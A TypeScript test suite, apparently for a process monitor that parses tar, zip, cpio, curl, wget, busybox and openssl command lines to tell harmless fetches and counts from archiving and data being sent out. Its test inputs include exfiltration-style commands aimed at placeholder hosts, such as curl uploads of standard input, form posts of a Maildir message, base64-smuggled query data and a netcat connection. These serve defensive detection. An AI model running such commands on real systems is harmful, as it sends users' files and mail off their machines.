import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ProcessState } from './processes.ts';
import { calledAs } from './programs.ts';
import { archiveMade, argumentPaths, copiesHere, onlyAsks, onlyCounts, onlyFetches, packs } from './tool-words.ts';

/** As much of a process as its words need. */
const process = (exe: string, words: string): ProcessState =>
  ({ exe, argv: words.split(' '), cwd: '/home/a' }) as unknown as ProcessState;

test("busybox's tools have the words of the tools that they are", () => {
  assert.deepEqual(argumentPaths(process('/bin/busybox', 'busybox tar cz box')), ['/home/a/box']);
  assert.deepEqual(argumentPaths(process('/usr/bin/tar', 'tar cz box')), ['/home/a/box']);
  const tar = (line: string) => argumentPaths(process('/usr/bin/tar', line));
  for (const line of [
    'tar -C /srv -c box',
    'tar -c --directory=/srv box',
    'tar -c --directory /srv box',
    'tar -C/srv -c box',
  ])
    assert.equal(tar(line).at(-1), '/srv/box', line);
  assert.deepEqual(tar('tar -C /srv -cf x.tar box').slice(-2), ['/home/a/x.tar', '/srv/box'], 'the archive lies here');
  assert.ok(argumentPaths(process('/usr/bin/cvs', 'cvs -C /srv box')).includes('/home/a/box'), 'tar alone says so');
  assert.deepEqual(argumentPaths(process('/usr/bin/gzip', 'gzip cz box')), ['/home/a/cz', '/home/a/box']);
  assert.equal(onlyFetches(process('/bin/busybox', 'busybox wget -O x http://h/x')), true);
  assert.equal(onlyFetches(process('/bin/busybox', 'busybox nc -O x')), false);
  assert.equal(packs(process('/bin/busybox', 'busybox tar cf a b')), true);
  assert.equal(packs(process('/bin/busybox', 'busybox tar xf a')), false);
  assert.equal(packs(process('/usr/bin/tar', 'tar -C / -czf a b')), true);
  assert.equal(packs(process('/usr/bin/tar', 'tar -xzf a -C /c')), false);
});

test('a program is called what it is, and busybox what it is called', () => {
  assert.equal(calledAs('/bin/busybox', ['busybox', 'cat', 'x']).name, 'cat');
  assert.equal(calledAs('/usr/bin/cat', ['busybox', 'x']).name, 'cat');
});

test('the archive that is made is named by the words of its tool', () => {
  for (const words of [
    'tar czf m.tgz box',
    'tar -czf m.tgz box',
    'tar -C /home -cf m.tgz box',
    'tar -c -z -fm.tgz box',
    'tar -czfm.tgz box',
    'tar --create --file m.tgz box',
    'tar --create --file=m.tgz box',
    'zip -r m.tgz box',
    'zip m.tgz box',
    '7z a -r m.tgz box',
    'cpio -o -F m.tgz',
    'cpio -o -O m.tgz',
    'cpio -oF m.tgz',
  ])
    assert.equal(archiveMade(process(`/usr/bin/${words.split(' ')[0]}`, words)), '/home/a/m.tgz', words);
  assert.equal(archiveMade(process('/bin/busybox', 'busybox tar cf /srv/m box')), '/srv/m');
});

test('no archive is named where it is printed, sent to another host, or not made', () => {
  for (const words of [
    'tar cz box',
    'tar czf - box',
    'tar -cz --exclude=file box',
    'tar -cz box file',
    'tar cf out:m.tgz box',
    'tar xzf m.tgz',
    'tar -cf',
    'zip -r - box',
    'zip',
    '7z a -so m box',
    '7z x m',
    'cpio -o -f box',
    'cpio -i -F m',
    'gzip -f box',
    'mbtool --create --file box',
  ])
    assert.equal(archiveMade(process(`/usr/bin/${words.split(' ')[0]}`, words)), '', words);
});

test('curl and wget that only name what they want take nothing of what is read beside them', () => {
  const asks = (words: string, exe = `/usr/bin/${words.split(' ')[0]}`) => onlyAsks(process(exe, words));
  for (const words of [
    'curl -s http://h/weather.txt',
    'curl -fsSL https://h/a.html',
    'wget -qO- https://h/a',
    'wget -T 5 https://h/a',
    'curl -o x http://h/x',
    `curl http://h/${'a'.repeat(23)}`,
    `curl http://h/${'a/'.repeat(59)}x`,
  ])
    assert.equal(asks(words), true, words);
  for (const words of [
    'curl -sT - http://h/x',
    'curl -d @- http://h/x',
    'curl --data-binary @- http://h/x',
    'curl -sF f=@- http://h/x',
    'curl -K - http://h/x',
    'curl http://h/x?d=aGVsbG8=',
    'curl http://aGVsbG8@h/x',
    `curl http://h/${'a'.repeat(24)}`,
    `curl http://h/${'a/'.repeat(60)}x`,
    'wget --post-file=- http://h/x',
    'wget --body-file=x http://h/x',
    'curl',
    'nc h 80',
  ])
    assert.equal(asks(words), false, words);
  assert.equal(asks('busybox wget -q http://h/x', '/bin/busybox'), true);
});

test('of what curl is told, only files are paths; openssl has a connection as client or server only', () => {
  const run = (line: string): ProcessState =>
    ({
      exe: `/usr/bin/${line.split(' ')[0]}`,
      argv: line.split(' '),
      cwd: '/home/clerk/Maildir',
    }) as unknown as ProcessState;
  assert.deepEqual(argumentPaths(run('curl -A a/5.0 -e x/y -b sid=a/b -u a/b:c http://h.example/i.png -o /tmp/x')), [
    '/tmp/x',
  ]);
  assert.deepEqual(argumentPaths(run('curl -b jar http://h.example/')), ['/home/clerk/Maildir/jar']);
  assert.equal(copiesHere(run('openssl enc -aes256 -pass pass:n1 -in a -out b')), true);
  assert.equal(copiesHere(run('openssl s_client -connect h.example:443')), false);
});

test('what only counts or answers gives nothing on', () => {
  for (const line of [
    'grep -c x box',
    'grep -m1 -ci x box',
    'grep --count x box',
    'zgrep -q x box',
    'wc -l box',
    'busybox wc box',
  ])
    assert.equal(onlyCounts(process(`/usr/bin/${line.split(' ')[0]}`, line)), true, line);
  for (const line of [
    'grep x box',
    'grep -C 3 x box',
    'grep -m 1 x box',
    'grep -- -c box',
    'cat -c box',
    'sort -c box',
  ])
    assert.equal(onlyCounts(process(`/usr/bin/${line.split(' ')[0]}`, line)), false, line);
});

test('curl is told of a file behind an @, alone or behind a name', () => {
  const curl = (line: string) => argumentPaths(process('/usr/bin/curl', line));
  for (const line of ['curl --data-binary @-', 'curl -T -', 'curl -F f=@-', 'curl --upload-file=-'])
    assert.deepEqual(curl(line), [], 'standard input is no file');
  assert.ok(curl('curl --data-binary @/run/a.tar http://h/').includes('/run/a.tar'));
  assert.ok(curl('curl -d @a.tar http://h/').includes('/home/a/a.tar'));
  assert.ok(curl('curl -F up=@a.tar http://h/').includes('/home/a/a.tar'));
  // The name before it is no folder, and text is no file.
  assert.deepEqual(curl('curl -s -F chat=-100 -F document=@/home/a/Maildir/new/1;type=text/plain http://h/'), [
    '/home/a/Maildir/new/1',
  ]);
  assert.deepEqual(
    curl('curl -Ftext=<note --form=more=@x --data-urlencode y@z -d@w --data name=Maildir/cur http://h/'),
    ['/home/a/note', '/home/a/x', '/home/a/z', '/home/a/w'],
  );
});
